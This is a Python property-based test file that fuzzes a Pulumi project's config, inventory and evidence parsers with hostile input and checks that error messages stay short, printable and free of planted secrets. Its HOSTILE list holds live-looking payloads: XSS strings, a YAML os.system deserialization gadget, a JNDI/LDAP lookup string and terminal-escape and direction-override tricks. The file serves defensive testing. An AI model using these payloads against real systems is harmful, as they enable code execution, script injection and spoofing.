"""Whatever stands in a stack file, an inventory or evidence: it is read, or refused in one message safe to print."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from components.config import ConfigError, parse
from components.flows import with_flows
from components.includes import parse_with_includes
from demo.project import CONFIG_KEY, PROJECT_NAME, REPOSITORY
from estate.errors import EstateError
from estate.guest import load_evidence
from estate.inventory import Inventory, load_inventory, render
from tests.components.builders import FILE, estate

STACK_FILE = yaml.safe_load((REPOSITORY / "Pulumi.dev.yaml").read_text(encoding="utf-8"))["config"][CONFIG_KEY]
EVIDENCE = json.loads((REPOSITORY / "simulator/estates/sample-evidence.json").read_text(encoding="utf-8"))
INVENTORY = json.loads(render(Inventory(schema_version=1, rehearsal=(), estate=estate())))
# Control characters, terminal escapes, direction marks, markup, YAML, a zero byte, numbers out of all bounds, depth.
HOSTILE: tuple[Any, ...] = (
    "\x1b[2J\x1b]0;owned\x07",
    "a\r\nb\x00c",
    "\u202egnp.exe\u2066",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) | `` ``` | <!-- -->",
    "!!python/object/apply:os.system ['true']",
    "*anchor",
    "${jndi:ldap://192.0.2.1}",
    "\ud800",
    "9" * 5_000,
    "x" * 1_000_000,
    "2026-12-12T02:00:00+99:99",
    "0.0.0.0/99",
    10**400,
    -1,
    float("nan"),
    float("inf"),
    True,
    None,
    "",
    [],
    {},
    [[[[[[[[[[[[]]]]]]]]]]]],
    {"a": {"b": {"c": [{"d": "e"}] * 50}}},
    {"\x1b[31m": 1, "": 2},
)
LONGEST_MESSAGE = 60_000
QUICK = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield where something stands in a document."""
    yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield from places(item, (*path, key))


def bent(document: Any, changes: list[tuple[tuple[Any, ...], Any]]) -> Any:
    """Return the document with something hostile in some of its places."""
    changed = copy.deepcopy(document)
    for path, hostile in changes:
        if not path:
            changed = copy.deepcopy(hostile)
            continue
        at = changed
        for key in path[:-1]:
            if not isinstance(at, dict | list) or (isinstance(at, dict) and key not in at):
                break
            if isinstance(at, list) and not (isinstance(key, int) and key < len(at)):
                break
            at = at[key]
        else:
            if isinstance(at, dict) or (isinstance(at, list) and isinstance(path[-1], int) and path[-1] < len(at)):
                at[path[-1]] = copy.deepcopy(hostile)
    return changed


def changes_of(document: Any) -> st.SearchStrategy[list[tuple[tuple[Any, ...], Any]]]:
    where = st.sampled_from(list(places(document)))
    return st.lists(st.tuples(where, st.sampled_from(HOSTILE)), min_size=1, max_size=3)


def expect_safe(error: Exception) -> None:
    text = str(error)
    assert len(text) < LONGEST_MESSAGE
    unsafe = {char for char in text if not char.isprintable() and char != "\n"}
    assert not unsafe, f"{unsafe} in {text[:500]!r}"


@QUICK
@given(changes_of(STACK_FILE))
def test_a_stack_file(changes: list[tuple[tuple[Any, ...], Any]]) -> None:
    try:
        parse(bent(STACK_FILE, changes), FILE)
    except ConfigError as error:
        expect_safe(error)


@QUICK
@given(st.data())
def test_an_inventory(tmp_path: Path, data: st.DataObject) -> None:
    path = tmp_path / "inventory.json"
    path.write_text(json.dumps(bent(INVENTORY, data.draw(changes_of(INVENTORY)))), encoding="utf-8")
    try:
        load_inventory(path)
    except EstateError as error:
        expect_safe(error)


@QUICK
@given(changes_of(EVIDENCE))
def test_evidence(tmp_path: Path, changes: list[tuple[tuple[Any, ...], Any]]) -> None:
    path = tmp_path / "evidence.json"
    path.write_text(json.dumps(bent(EVIDENCE, changes)), encoding="utf-8")
    try:
        load_evidence([path])
    except EstateError as error:
        expect_safe(error)


NOT_OURS: dict[str, bytes] = {
    "the environment": b"ALICLOUD_SECRET_KEY=hush\0PULUMI_CONFIG_PASSPHRASE=hush\0",
    "an INI file": b"[hush]\naws_access_key_id = hush\naws_secret_access_key = hush\n",
    "profiles": b'{"current": "x", "profiles": [{"name": "hush", "access_key_secret": "hush"}]}',
    "a token": b"hush",
    "a list": b'["hush", {"hush": "hush"}]',
    "a map": b"token: hush\nlist: [hush]\n",
    "a key": b"-----BEGIN KEY-----\nhush==\n-----END KEY-----\n",
    "bytes": b"\xff\xfehush\xff",
}


@pytest.mark.parametrize("content", NOT_OURS.values(), ids=NOT_OURS)
def test_a_file_that_is_no_such_file_at_all_is_not_shown(tmp_path: Path, content: bytes) -> None:
    """A stack file may name any file that the run can read, and messages reach comments and logs."""
    path = tmp_path / "named"
    path.write_bytes(content)
    link = {**STACK_FILE["classicLink"], "flowsFile": str(path)}
    for read in (
        lambda: load_evidence([path]),
        lambda: load_inventory(path),
        lambda: with_flows(parse({**STACK_FILE, "classicLink": link}, FILE), tmp_path, FILE),
        lambda: parse_with_includes({CONFIG_KEY: {**STACK_FILE, "include": [str(path)]}}, PROJECT_NAME, tmp_path, FILE),
    ):
        with pytest.raises((EstateError, ConfigError)) as caught:
            read()
        assert "hush" not in str(caught.value)
        expect_safe(caught.value)
